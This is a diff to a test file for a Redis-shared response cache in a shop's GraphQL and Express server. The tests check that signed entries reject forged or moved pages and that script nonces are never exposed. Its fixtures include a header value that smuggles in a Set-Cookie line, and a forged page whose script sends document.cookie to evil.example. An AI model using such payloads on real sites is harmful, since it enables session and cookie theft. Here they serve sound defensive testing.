@@ -519,14 +519,46 @@ describe('two instances on one database, through Redis', () => {
     await sharedInRedis(query);
     const [key, ...others] = (await redis.keys(`${prefix}*`)).filter((name) => name.includes('tampered'));
     expect(others).toEqual([]);
-    const entry = JSON.parse((await redis.get(key))!) as { headers: Record<string, string> };
+    // the signature, a dot, the entry (the signature is tried in the next test)
+    const raw = (await redis.get(key))!;
+    const signature = raw.slice(0, raw.indexOf('.'));
+    const entry = JSON.parse(raw.slice(signature.length + 1)) as { headers: Record<string, string> };
     // a header that would smuggle another header in (Node refuses to send it: the send would throw)
-    await redis.set(key, JSON.stringify({ ...entry, headers: { ...entry.headers, 'content-type': 'application/json\r\nSet-Cookie: sid=x' } }));
+    await redis.set(key, `${signature}.${JSON.stringify({ ...entry, headers: { ...entry.headers, 'content-type': 'application/json\r\nSet-Cookie: sid=x' } })}`);
     const response = await fetch(`${second.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(query) });
     expect([response.status, response.headers.get('x-cache'), response.headers.get('set-cookie')]).toEqual([200, 'MISS', null]);
     expect(await response.json()).toEqual(rendered.json);
     // the second instance rendered and stored its own answer, and serves it in front of the app
     expect((await post(second, query)).cache).toBe('HIT');
+  });
+
+  it('an entry in Redis not signed by the shop for its key is neither served nor kept: the answer is rendered again (issue 40, item 8)', async () => {
+    const forged = { query: PRODUCT, variables: { slug: productSlug, forged: true } };
+    const moved = { query: PRODUCT, variables: { slug: productSlug, moved: true } };
+    const rendered = await post(app, forged);
+    await post(app, moved);
+    await sharedInRedis(forged);
+    await sharedInRedis(moved);
+    const keys = await redis.keys(`${prefix}*`);
+    const [forgedKey, movedKey] = ['"forged"', '"moved"'].map((marker) => keys.find((name) => name.includes(marker))!);
+    // a real entry under another key: the first query's answer for the second
+    await redis.set(movedKey, (await redis.get(forgedKey))!);
+    // whoever can write to Redis writes a page with a script, well-formed as the shop's entries are
+    // (its nonce marked both ways: the placeholder of old and the field of now)
+    const generation = (await redis.get(`${prefix}generation`)) ?? '0';
+    const script = '<script nonce="\u0000nonce\u0000">fetch("https://evil.example/?" + document.cookie)</script>';
+    const page = { status: 200, headers: { 'content-type': 'text/html; charset=utf-8' }, body: script, nonce: '\u0000nonce\u0000', storedAt: Date.now(), generation: 0, sharedGeneration: generation, anyVisitor: true };
+    await redis.set(forgedKey, JSON.stringify(page));
+
+    const answer = await fetch(`${second.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(forged) });
+    expect([answer.status, answer.headers.get('x-cache'), answer.headers.get('content-type')]).toEqual([200, 'MISS', 'application/json; charset=utf-8']);
+    expect(await answer.json()).toEqual(rendered.json);
+    expect((await post(second, moved)).cache).toBe('MISS');
+    // each dropped and replaced by the answer rendered again, which the second instance now serves
+    await vi.waitFor(async () => expect(await redis.get(forgedKey)).toMatch(/^[\w-]+\.\{"status":200/), { timeout: 10_000, interval: 20 });
+    expect(await redis.get(forgedKey)).not.toContain('evil.example');
+    expect((await post(second, forged)).cache).toBe('HIT');
+    expect((await post(second, moved)).cache).toBe('HIT');
   });
 
   it("an instance moves the shared generation when it sees a change, not at its next request: an answer shared after the change stays shared", async () => {
@@ -722,6 +754,42 @@ describe('requests that miss together', () => {
       ]);
       // the second request for the private page rendered it itself, once the first was done
       expect(renders.toSorted()).toEqual(['a', 'private', 'private']);
+    } finally {
+      listening.close();
+      await cache.close();
+    }
+  });
+});
+
+describe("a hit's nonce (issue 40, item 8)", () => {
+  it('goes only where the render put its own: a parameter the page shows, whatever it holds, never gets it', async () => {
+    const version: CatalogVersion = { generation: 1, databaseReachable: true, bump: () => undefined, onChange: () => undefined, onStatement: () => undefined, polled: async () => undefined, ready: async () => undefined, close: async () => undefined };
+    const cache = createResponseCache({ version });
+    const server = express();
+    server.use((_req, res, next) => {
+      res.locals.nonce = randomUUID().replaceAll('-', '').slice(0, 24);
+      next();
+    });
+    server.use(cache.middleware);
+    // a search page that shows what was asked (as the shop's search box does)
+    server.get('/hledat', (req, res) => void res.type('html').send(`<script nonce="${res.locals.nonce as string}">run()</script><input value="${String(req.query.q)}">`));
+    const listening = createServer(server).listen(0, '127.0.0.1');
+    await new Promise((resolve) => listening.once('listening', resolve));
+    const url = `http://127.0.0.1:${(listening.address() as AddressInfo).port}/hledat?q=`;
+    const page = /^<script nonce="(\w{24})">run\(\)<\/script><input value="(.*)">$/s;
+    try {
+      // the fixed placeholder of before, and a nonce of the shop's length and alphabet
+      for (const typed of ['\u0000nonce\u0000', 'abcdefabcdefabcdefabcdef']) {
+        const answers = [];
+        for (let i = 0; i < 2; i += 1) {
+          const response = await fetch(url + encodeURIComponent(typed));
+          answers.push({ cache: response.headers.get('x-cache'), parts: page.exec(await response.text())?.slice(1) });
+        }
+        expect(answers.map((answer) => answer.cache)).toEqual(['MISS', 'HIT']);
+        const [[firstNonce, firstTyped], [hitNonce, hitTyped]] = answers.map((answer) => answer.parts!);
+        expect([firstTyped, hitTyped]).toEqual([typed, typed]);
+        expect(hitNonce).not.toBe(firstNonce);
+      }
     } finally {
       listening.close();
       await cache.close();
